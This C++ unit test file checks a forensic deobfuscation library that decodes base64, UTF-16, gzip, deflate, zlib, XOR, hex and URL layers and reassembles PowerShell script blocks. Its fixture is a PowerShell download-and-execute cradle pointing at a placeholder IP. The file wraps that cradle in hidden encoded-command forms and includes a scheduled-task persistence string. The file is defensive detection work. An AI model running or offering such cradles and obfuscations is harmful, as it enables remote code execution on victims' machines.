// SPDX-License-Identifier: GPL-3.0-or-later
#include <jupiter/unwrap/script_block.h>
#include <jupiter/unwrap/unwrap.h>

#include <QTest>

#include <zlib.h>

#include <random>

using namespace jupiter;
using namespace jupiter::unwrap;

static constexpr std::string_view script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";

class UnwrapTest : public QObject {
    Q_OBJECT

    static std::string base64(std::string_view bytes) { return QByteArray(bytes.data(), qsizetype(bytes.size())).toBase64().toStdString(); }
    static std::string utf16(std::string_view text)
    {
        std::string wide;
        for (const char c : text)
            (wide += c) += '\0';
        return wide;
    }
    static std::string deflated(std::string_view bytes, int window)
    {
        z_stream stream{};
        deflateInit2(&stream, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY);
        std::string out(deflateBound(&stream, uLong(bytes.size())) + 64, '\0');
        stream.next_in = reinterpret_cast<Bytef *>(const_cast<char *>(bytes.data()));
        stream.avail_in = uInt(bytes.size());
        stream.next_out = reinterpret_cast<Bytef *>(out.data());
        stream.avail_out = uInt(out.size());
        deflate(&stream, Z_FINISH);
        out.resize(stream.total_out);
        deflateEnd(&stream);
        return out;
    }
    static std::string xored(std::string_view bytes, unsigned char key)
    {
        std::string out(bytes);
        for (char &c : out)
            c = char(static_cast<unsigned char>(c) ^ key);
        return out;
    }
    static std::string kindsOf(const Chain &chain)
    {
        std::string names;
        for (const Step &step : chain.steps)
            names += (names.empty() ? "" : " ") + std::string(name(step.kind));
        return names;
    }

private Q_SLOTS:
    void takesOffWhatWasPutOn_data()
    {
        QTest::addColumn<QByteArray>("value");
        QTest::addColumn<QString>("steps");
        const auto add = [](const char *name, const std::string &value, const char *steps) { QTest::newRow(name) << QByteArray::fromStdString(value) << QString::fromLatin1(steps); };
        const std::string text(script);
        add("an encoded command", "powershell.exe -nop -w hidden -enc " + base64(utf16(script)), "base64 utf-16");
        add("a short option", "powershell -e " + base64(utf16(script)), "base64 utf-16");
        add("gzip in base64 in a script", "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"" + base64(deflated(script, 31)) + "\"));", "base64 gzip");
        add("deflate in base64", "[IO.Compression.DeflateStream][Convert]::FromBase64String('" + base64(deflated(script, -15)) + "')", "base64 deflate");
        add("zlib in base64", "exec(zlib.decompress(base64.b64decode('" + base64(deflated(script, 15)) + "')))", "base64 zlib");
        add("xor in base64", "FromBase64String('" + base64(xored(script, 0x35)) + "')|%{$_ -bxor 0x35}", "base64 xor");
        add("two layers of base64", base64(base64(script)), "base64 base64");
        add("an encoded command inside another", "powershell -enc " + base64(utf16("powershell -enc " + base64(utf16(script)))), "base64 utf-16 base64 utf-16");
        add("hex", "x=" + QByteArray::fromStdString(text).toHex().toStdString(), "hex");
        add("bytes of C", "{0x49,0x45,0x58,0x20,0x28,0x4e,0x65,0x77,0x2d,0x4f,0x62,0x6a,0x65,0x63,0x74,0x20,0x4e,0x65,0x74}", "hex");
        add("percent signs", "/cgi?c=%49%45%58%20%28%4e%65%77%2d%4f%62%6a%65%63%74", "URL");
    }
    void takesOffWhatWasPutOn()
    {
        QFETCH(QByteArray, value);
        QFETCH(QString, steps);
        const Chain chain = unwrap::unwrap(value.toStdString());
        QCOMPARE(QString::fromStdString(kindsOf(chain)), steps);
        QCOMPARE(int(chain.end), int(Chain::End::Plain));
        QVERIFY2(chain.steps.back().bytes.find("IEX (New-Object") != std::string::npos, chain.steps.back().bytes.c_str());
    }

    // What must be left alone: ordinary values of evidence.
    void leavesOrdinaryValuesAlone_data()
    {
        QTest::addColumn<QString>("value");
        for (const char *value : {"", "a", "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "NT AUTHORITY\\SYSTEM", "InternetExplorerAutomation",
                                  "9f2c447105bbd2a18c1e9f2c447105bbd2a18c1e9f2c447105bbd2a18c1e9f2c", "{365abb72-528d-5c91-0000-001062530a00}", "10.0.2.15", "2019-03-17T19:37:11.661Z",
                                  "S-1-5-21-308926384-506822093-3341789130-1106", "Microsoft-Windows-PowerShell/Operational", "100% sure, 50% done", "user@example.com",
                                  "/usr/lib/x86_64-linux-gnu/libcrypto.so.3", "\xc3\xa4\xc3\xb6\xc3\xbc und so weiter", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                                  "schtasks /create /sc minute /mo 5 /tn Upd /tr cmd", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"})
            QTest::newRow(value) << QString::fromUtf8(value);
    }
    void leavesOrdinaryValuesAlone()
    {
        QFETCH(QString, value);
        const Chain chain = unwrap::unwrap(value.toStdString());
        QCOMPARE(QString::fromStdString(kindsOf(chain)), QString());
    }

    void saysWhereALayerStood()
    {
        const std::string packed = base64(utf16(script));
        const Chain chain = unwrap::unwrap("powershell -enc " + packed + " -x");
        QCOMPARE(chain.steps[0].from, std::size_t(16));
        QCOMPARE(chain.steps[0].length, packed.size());
    }

    void refusesWhatIsNotPackedThatWay_data()
    {
        QTest::addColumn<int>("kind");
        QTest::addColumn<QByteArray>("value");
        const auto add = [](const char *name, Kind kind, const QByteArray &value) { QTest::newRow(name) << int(kind) << value; };
        add("base64 with a sign", Kind::Base64, "QUJD!");
        add("base64 behind padding", Kind::Base64, "QQ==QUJD");
        add("base64 of nothing", Kind::Base64, "");
        add("base64 of padding", Kind::Base64, "====");
        add("hex with a letter", Kind::Hex, "4x5g");
        add("hex of nothing", Kind::Hex, " , ");
        add("url without percent", Kind::Url, "abc");
        add("url cut", Kind::Url, "abc%4");
        add("utf-16 of a byte", Kind::Utf16, "a");
        add("gzip of text", Kind::Gzip, "hello, this is no gzip");
        add("gzip of its head", Kind::Gzip, QByteArray("\x1f\x8b\x08\0\0\0\0\0\0\3", 10));
        add("zlib of noise", Kind::Zlib, QByteArray("\x78\x9c\xff\xff\xff\xff\xff\xff", 8));
        add("deflate of noise", Kind::Deflate, QByteArray("\x07\xff\xff\xff", 4));
    }
    void refusesWhatIsNotPackedThatWay()
    {
        QFETCH(int, kind);
        QFETCH(QByteArray, value);
        const auto step = take(Kind(kind), value.toStdString());
        QVERIFY(!step);
        QVERIFY(step.error().message.starts_with("not "));
    }

    void aValueThatEndsEarlyGivesWhatThereIs()
    {
        const std::string zipped = deflated(std::string(50'000, 'a') + std::string(script), 31);
        const auto step = take(Kind::Gzip, std::string_view(zipped).substr(0, zipped.size() / 2));
        QVERIFY(step && step->cut && step->bytes.starts_with("aaaa"));
        const auto half = take(Kind::Hex, "414");
        QVERIFY(half && half->cut && half->bytes == "A");
    }

    void aBombIsCutAtTheLimit()
    {
        const std::string bomb = deflated(std::string(64 << 20, '\0'), 31);
        QVERIFY(bomb.size() < 100'000);
        const auto step = take(Kind::Gzip, bomb);
        QVERIFY(step && step->cut);
        QCOMPARE(step->bytes.size(), Limits().output);
        const Chain chain = unwrap::unwrap("FromBase64String(" + base64(bomb) + ")");
        QVERIFY(chain.steps.size() >= 2 && chain.steps[1].cut);
    }

    void manyLayersEndAtTheLimit()
    {
        std::string value(script);
        for (int i = 0; i < 30 && value.size() < 200'000; ++i)
            value = base64(value);
        const Chain chain = unwrap::unwrap(value);
        QCOMPARE(int(chain.end), int(Chain::End::TooMany));
        QCOMPARE(chain.steps.size(), Limits().steps);
    }

    void aValueThatIsTooLongIsNotLookedAt()
    {
        const Chain chain = unwrap::unwrap(std::string(Limits().input + 1, 'A'));
        QCOMPARE(int(chain.end), int(Chain::End::TooLong));
        QVERIFY(chain.steps.empty());
    }

    void noiseOfEveryLengthIsSurvived()
    {
        std::mt19937 random(7);
        for (int size = 0; size < 300; ++size) {
            std::string value(std::size_t(size), '\0');
            for (char &c : value)
                c = char(random());
            QVERIFY(unwrap::unwrap(value).steps.size() <= Limits().steps);
            for (const Kind kind : kinds)
                (void)take(kind, value, 1);
        }
    }

    void partsOfAScriptBecomeTheScript()
    {
        const ScriptBlock block = joinScriptBlock({{3, 3, "c"}, {1, 3, "a"}, {2, 3, "b"}, {2, 3, "b"}});
        QCOMPARE(block.text, std::string("abc"));
        QVERIFY(block.missing.empty() && !block.contradicts);
        QCOMPARE(block.total, 3);
    }

    void missingAndContradictingPartsAreNamed()
    {
        const ScriptBlock block = joinScriptBlock({{2, 4, "b"}, {2, 5, "B"}, {0, 4, "x"}, {-1, 4, "y"}});
        QCOMPARE(block.text, std::string("b"));
        QCOMPARE(block.missing, (std::vector<std::int64_t>{1, 3, 4, 5}));
        QVERIFY(block.contradicts);
        QVERIFY(joinScriptBlock({}).text.empty());
        QCOMPARE(joinScriptBlock({{1, 9'000'000'000'000'000'000, "a"}}).missing.size(), std::size_t(1000));
    }
};

QTEST_APPLESS_MAIN(UnwrapTest)
#include "unwrap_test.moc"
